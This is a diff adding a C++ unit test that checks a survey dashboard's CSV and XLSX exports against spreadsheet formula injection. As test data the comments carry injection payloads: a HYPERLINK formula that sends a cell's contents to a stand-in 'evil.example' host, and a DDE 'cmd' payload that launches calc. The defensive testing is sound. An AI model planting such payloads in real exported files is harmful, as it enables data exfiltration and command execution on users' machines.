@@ -1,15 +1,21 @@
 // Dashboard unit tests: parameters, passwords, store methods, and the handler's security paths.
 #include "auth.h"
+#include "exports.h"
 #include "page_login.h"
 #include "params.h"
 #include "pg/test_db.h"
+#include "suara/analytics/csv.h"
+#include "suara/analytics/simulate.h"
 #include "suara/sync/protocol.h"
 #include "suara/sync/server/dashboard/dashboard.h"
 #include "suara/sync/server/store.h"
 
+#include <algorithm>
 #include <catch2/catch.hpp>
 #include <cmath>
+#include <cstdlib>
 #include <filesystem>
+#include <fstream>
 
 using namespace suara;
 using namespace suara::sync;
@@ -259,4 +265,76 @@ TEST_CASE("dashboard: login, CSRF, fixation, roles and throttling", "[dashboard]
     REQUIRE(second.status == 303);
     CHECK_FALSE(fx.store->findSession(sha256Hex(firstId), now + 2002)->has_value());
     CHECK(fx.store->findSession(sha256Hex(sessionFrom(second)), now + 2002)->has_value());
+}
+
+TEST_CASE("dashboard: exports neutralise formula cells; XLSX writes text as strings",
+          "[dashboard][security]") {
+    Fixture fx;
+    DashboardOptions o;
+    o.secureCookie = false;
+    Dashboard d(*fx.store, fx.registry, o);
+    const int64_t now = 1'790'000'000'000;
+    const analytics::Instrument* in = fx.registry.find("servqual-ektp-18");
+    REQUIRE(in);
+    REQUIRE(fx.store->addKiosk({"K-001", "53.01", generateKeyPair().publicKey, 1, {}, {}, 0}));
+    analytics::SimulateOptions so;
+    so.kioskId = "K-001";
+    analytics::Simulator sim(*in, so);
+    std::vector<analytics::Response> sent;
+    std::vector<IngestRecord> batch;
+    for (int i = 0; i < 6; ++i) {
+        analytics::Response r = sim.next();
+        r.seq = i + 1;
+        r.submittedAtMs = *analytics::parseDay("2026-01-10") * 86'400'000 + i * 60'000;
+        r.startedAtMs = r.submittedAtMs - 60'000;
+        r.utcOffsetMinutes = 480;
+        r.comment = i == 0   ? "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")"
+                    : i == 1 ? "@SUM(1+1)"
+                             : "baik";
+        if (i == 2) r.service = "=cmd|' /C calc'!A0";
+        sent.push_back(r);
+        batch.push_back({r, in, encodeRecord(r), recordHash(r)});
+    }
+    auto ing = fx.store->ingest("K-001", randomNonce(), batch, now, 300000);
+    REQUIRE(ing);
+
+    const WebReply page = get(d, "/dashboard/login", "", "", now);
+    const std::string t = loginToken(page);
+    const WebReply ok = post(d, "/dashboard/login", "csrf=" + t + "&user=admin&password=admin-password-1",
+                             "suara_login=" + t, now);
+    REQUIRE(ok.status == 303);
+    const WebReply raw = get(d, "/dashboard/responses.csv", "period=custom&from=2026-01-01&to=2026-01-31",
+                             "suara_session=" + sessionFrom(ok), now);
+    REQUIRE(raw.status == 200);
+    CHECK(raw.body.find(",\"'=HYPERLINK(") != std::string::npos);
+    CHECK(raw.body.find(",'@SUM(") != std::string::npos);
+    CHECK(raw.body.find(",'=cmd|") != std::string::npos);
+    for (const char* bad : {",=", ",@", ",\"="}) CHECK(raw.body.find(bad) == std::string::npos);
+    // The raw export still reads back to the stored records (what `suara report` counts).
+    auto back = analytics::readCsvResponses(raw.body, *in);
+    REQUIRE(back.ok());
+    REQUIRE(back->size() == sent.size());
+    for (const auto& r : sent) CHECK(std::find(back->begin(), back->end(), r) != back->end());
+
+    // The office tables' CSV and XLSX writers: numbers stay numbers, text is guarded / a string.
+    Table table{"t",
+                "=title",
+                {"=col", "n"},
+                {},
+                {{Cell::str("=1+2"), Cell::num(-3.5)}, {Cell::str("-x"), Cell::num(4)}}};
+    const std::string csv = tablesToCsv({table});
+    CHECK(csv.find("'=title\r\n'=col,n\r\n'=1+2,-3.5\r\n'-x,4\r\n") != std::string::npos);
+    auto xlsx = tablesToXlsx({table});
+    REQUIRE(xlsx);
+    const fs::path file = fx.dir / "t.xlsx";
+    { std::ofstream(file, std::ios::binary) << *xlsx; }
+    const fs::path sheet = fx.dir / "sheet.xml";
+    REQUIRE(
+        std::system(("unzip -p '" + file.string() + "' xl/worksheets/sheet1.xml > '" + sheet.string() + "'")
+                        .c_str()) == 0);
+    auto xml = analytics::readWholeFile(sheet);
+    REQUIRE(xml);
+    CHECK(xml->find("<f>") == std::string::npos);
+    CHECK(xml->find("<c r=\"A3\" t=\"s\">") != std::string::npos); // "=1+2" is a shared string
+    CHECK(xml->find("<c r=\"B3\"><v>-3.5</v>") != std::string::npos);
 }
